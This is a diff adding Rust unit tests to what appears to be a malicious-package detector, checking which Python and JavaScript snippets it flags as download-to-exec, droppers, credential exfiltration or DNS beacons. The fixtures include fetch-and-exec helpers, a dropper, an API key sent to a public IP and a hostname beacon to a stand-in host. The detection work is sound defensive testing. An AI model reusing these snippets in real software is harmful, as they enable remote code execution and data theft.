@@ -267,3 +267,77 @@ fn host_identity_logged_is_quiet_and_looked_up_is_a_flow() {
         .iter()
         .any(|f| f.0 == FlowKind::HostInfoToNetwork));
 }
+
+#[test]
+fn a_url_the_caller_passes_is_a_flow_only_where_a_constant_is_passed() {
+    // A preload helper: the module runs whatever URL its user configured; nothing in the code names one.
+    let configured = "import urllib.request\ndef download_module(url):\n    with urllib.request.urlopen(url) as response:\n        source = response.read()\n    exec(compile(source, url, 'exec'), {})\ndef preload(names):\n    for name in names:\n        download_module(name)\n";
+    assert!(py(configured).is_empty(), "{:?}", py(configured));
+    let unpickle = "import pickle, requests\ndef load_url(url, trusted=False):\n    if not trusted:\n        raise ValueError(url)\n    response = requests.get(url)\n    return pickle.loads(response.content)\n";
+    assert!(py(unpickle).is_empty(), "{:?}", py(unpickle));
+    // The same helper handed a URL written in the code (directly, through a constant or another helper).
+    let constant = format!("{configured}download_module('https://x.example.invalid/stage.py')\n");
+    let found = py(&constant);
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0].0, FlowKind::DownloadToExec);
+    assert_eq!(
+        found[0].3.as_deref(),
+        Some("download_module('https://x.example.invalid/stage.py')")
+    );
+    let chained = format!("{configured}URL = 'https://x.example.invalid/stage.py'\npreload([URL])\ndownload_module(URL)\n");
+    assert_eq!(py(&chained).len(), 1, "{:?}", py(&chained));
+    // A host written in the code is the package's own choice, parameter or not.
+    let own_host = py("import requests\ndef update(name):\n    code = requests.get('https://x.example.invalid/' + name).text\n    exec(code)\n");
+    assert_eq!(own_host.len(), 1, "{own_host:?}");
+    // A constant default is a URL written in the code.
+    let defaulted = py("import pickle, urllib.request\ndef refresh(url: str = 'https://x.example.invalid/state'):\n    payload = urllib.request.urlopen(url).read()\n    return pickle.loads(payload)\n");
+    assert_eq!(defaulted.len(), 1, "{defaulted:?}");
+    // Saved to a file and started as a program: a dropper, whoever passes the URL.
+    let dropper = py("import subprocess, requests\ndef main(url, filename):\n    response = requests.get(url)\n    with open(filename, 'wb') as f:\n        f.write(response.content)\n    subprocess.run(['pythonw', filename])\n");
+    assert_eq!(dropper.len(), 1, "{dropper:?}");
+    let js_param = js("async function run(url) {\n  const res = await fetch(url);\n  eval(await res.text());\n}\nrun('https://x.example.invalid/p.js');\n");
+    assert_eq!(js_param.len(), 1, "{js_param:?}");
+}
+
+#[test]
+fn one_punctuation_char_code_is_not_hidden_code() {
+    // A test helper joins its source with `;` written as a code.
+    let joined = js("function wrap(fun) {\n  var F = Function;\n  return new F(helpers.join(';') + String.fromCharCode(59) + 'return (' + fun.toString() + ')();');\n}\n");
+    assert!(joined.is_empty(), "{joined:?}");
+    let letter = js("new Function(String.fromCharCode(120) + '()')();\n");
+    assert_eq!(letter.len(), 1, "{letter:?}");
+}
+
+#[test]
+fn a_build_placeholder_is_not_an_embedded_payload() {
+    // A self-installer template: the build step writes the encoded source in place of the marker.
+    let template = "import base64\nBLOB = \"\"\"\n@PACKED-SOURCE@\n\"\"\"\nSOURCE = base64.b64decode(BLOB.encode('ascii'))\nexec(SOURCE.decode(), globals())\n";
+    assert!(py(template).is_empty(), "{:?}", py(template));
+    let filled = template.replace("@PACKED-SOURCE@", "cHJpbnQoJ2hpJyk=");
+    assert_eq!(py(&filled).len(), 1, "{:?}", py(&filled));
+}
+
+#[test]
+fn a_key_sent_to_a_local_server_is_not_carried_off() {
+    // A CLI checks the local inference server it started, with the key the user set.
+    let local = "import os, urllib.request\nkey = os.environ.get('SERVER_API_KEY')\nreq = urllib.request.Request(f'http://127.0.0.1:{port}/v1/models', headers={'Authorization': f'Bearer {key}'})\n";
+    assert!(py(local).is_empty(), "{:?}", py(local));
+    let public = local.replace("127.0.0.1", "203.0.113.7");
+    assert_eq!(py(&public).len(), 1, "{:?}", py(&public));
+    assert!(!engine::is_exfil_destination(
+        "http://10.1.2.3/x http://192.168.0.9"
+    ));
+    assert!(engine::is_exfil_destination("https://webhook.site/abc"));
+}
+
+#[test]
+fn resolving_the_machines_own_name_is_not_a_beacon() {
+    // A cluster library finds its own address; nothing is joined to the name.
+    let own = "import os, socket\ninfo = socket.getaddrinfo(socket.gethostname(), 0)\nhost = os.getenv('HOSTNAME')\nip = socket.gethostbyname(host)\n";
+    assert!(py(own).is_empty(), "{:?}", py(own));
+    let beacon =
+        "import socket\nsocket.gethostbyname(socket.gethostname() + '.x.example.invalid')\n";
+    assert_eq!(py(beacon).len(), 1, "{:?}", py(beacon));
+    let built = "import socket\nname = f'{socket.gethostname()}.x.example.invalid'\nsocket.gethostbyname(name)\n";
+    assert_eq!(py(built).len(), 1, "{:?}", py(built));
+}
